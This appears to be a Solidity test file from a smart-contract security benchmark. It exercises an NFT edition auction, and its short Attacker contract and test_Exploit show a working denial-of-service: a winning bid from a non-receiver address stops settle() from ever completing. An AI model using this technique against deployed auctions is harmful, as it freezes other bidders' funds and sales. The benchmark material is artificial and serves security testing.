// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import "./EditionAuctions.sol";

// assay-canary-8638c552-be06-4f74-8e5f-2682833a893b

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant ANA = payable(address(0xA9A));
    address payable private constant BEN = payable(address(0xBE9));
    address payable private constant ARTIST = payable(address(0xA4715));
    address private constant MANAGER = address(0x3A9);
    uint256 private constant START = 1_700_000_000;

    EditionAuctions private sale;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        sale = new EditionAuctions(ARTIST, address(this), 1 ether);
        sale.grantRole(sale.MANAGER_ROLE(), MANAGER);
        vm.deal(ANA, 100 ether);
        vm.deal(BEN, 100 ether);
        vm.prank(ANA);
        sale.bid{value: 10 ether}(0);
        vm.warp(START + 1 days);
        sale.settle();
        mallory = new Attacker(sale);
        vm.deal(address(mallory), 1 ether);
    }

    function test_Regular() public {
        require(sale.ownerOf(0) == ANA && sale.credits(ARTIST) == 10 ether && sale.current() == 1, "settled");
        vm.prank(BEN);
        sale.bid{value: 1 ether}(1);
        require(sale.minimumBid() == 1.05 ether + 1, "raise");
        vm.warp(START + 2 days - 5 minutes);
        vm.prank(ANA);
        sale.bid{value: 2 ether}(1);
        (address leader, uint64 endsAt, uint256 amount) = sale.auction();
        require(leader == ANA && endsAt == START + 2 days + 10 minutes && amount == 2 ether, "prolonged");
        vm.warp(endsAt);
        sale.settle();
        require(sale.ownerOf(1) == ANA && sale.credits(BEN) == 1 ether && sale.current() == 2, "settled again");
        vm.prank(MANAGER);
        sale.setReserve(3 ether);
        require(sale.minimumBid() == 3 ether, "reserve");
        vm.warp(START + 4 days);
        sale.settle();
        (leader, endsAt,) = sale.auction();
        require(sale.current() == 2 && leader == address(0) && endsAt == START + 5 days, "nobody");
        vm.prank(BEN);
        sale.withdraw(BEN);
        vm.prank(ARTIST);
        sale.withdraw(ARTIST);
        require(BEN.balance == 100 ether && ARTIST.balance == 12 ether && address(sale).balance == 0, "withdrawn");
        vm.startPrank(ANA);
        sale.transferFrom(ANA, BEN, 0);
        sale.approve(BEN, 1);
        vm.stopPrank();
        vm.startPrank(BEN);
        sale.safeTransferFrom(ANA, BEN, 1);
        sale.safeTransferFrom(BEN, ANA, 1, "");
        sale.setApprovalForAll(ANA, true);
        vm.stopPrank();
        require(sale.ownerOf(0) == BEN && sale.ownerOf(1) == ANA && sale.supportsInterface(0x80ac58cd), "moved");
        bytes32 role = sale.MANAGER_ROLE();
        vm.prank(MANAGER);
        sale.renounceRole(role, MANAGER);
        sale.grantRole(role, BEN);
        sale.revokeRole(role, BEN);
    }

    function test_RefusesOpening() public {
        vm.expectRevert("EditionAuctions: no artist");
        new EditionAuctions(address(0), ANA, 1);
        vm.expectRevert("EditionAuctions: no admin");
        new EditionAuctions(ANA, address(0), 1);
        vm.expectRevert("EditionAuctions: no reserve");
        new EditionAuctions(ANA, ANA, 0);
    }

    function test_RefusesBidders() public {
        vm.startPrank(BEN);
        vm.expectRevert("EditionAuctions: not on sale");
        sale.bid{value: 1 ether}(0);
        vm.expectRevert("EditionAuctions: too low");
        sale.bid{value: 1 ether - 1}(1);
        sale.bid{value: 1 ether}(1);
        vm.expectRevert("EditionAuctions: too low");
        sale.bid{value: 1.05 ether}(1);
        vm.expectRevert("EditionAuctions: no credit");
        sale.withdraw(BEN);
        vm.warp(START + 2 days - 1);
        vm.expectRevert("EditionAuctions: running");
        sale.settle();
        vm.warp(START + 2 days);
        vm.expectRevert("EditionAuctions: over");
        sale.bid{value: 2 ether}(1);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes32 role = sale.MANAGER_ROLE();
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, BEN, role));
        sale.setReserve(2 ether);
    }

    /// An honest call: ben settles the auction that is over, and bids for the next edition.
    function settleByBen() public {
        vm.warp(block.timestamp + 2 days);
        vm.prank(BEN);
        sale.settle();
        uint256 edition = sale.current();
        vm.prank(BEN);
        sale.bid{value: 5 ether}(edition);
    }

    function exploit() public {
        mallory.run();
        vm.warp(block.timestamp + 1 days);
    }

    function test_Exploit() public {
        exploit();
        vm.expectRevert(abi.encodeWithSelector(bytes4(keccak256("ERC721InvalidReceiver(address)")), address(mallory)));
        sale.settle();
    }

    function target() public view returns (address) {
        return address(sale);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    EditionAuctions private sale;

    constructor(EditionAuctions s) {
        sale = s;
    }

    function run() external {
        sale.bid{value: 1 ether}(sale.current());
    }
}
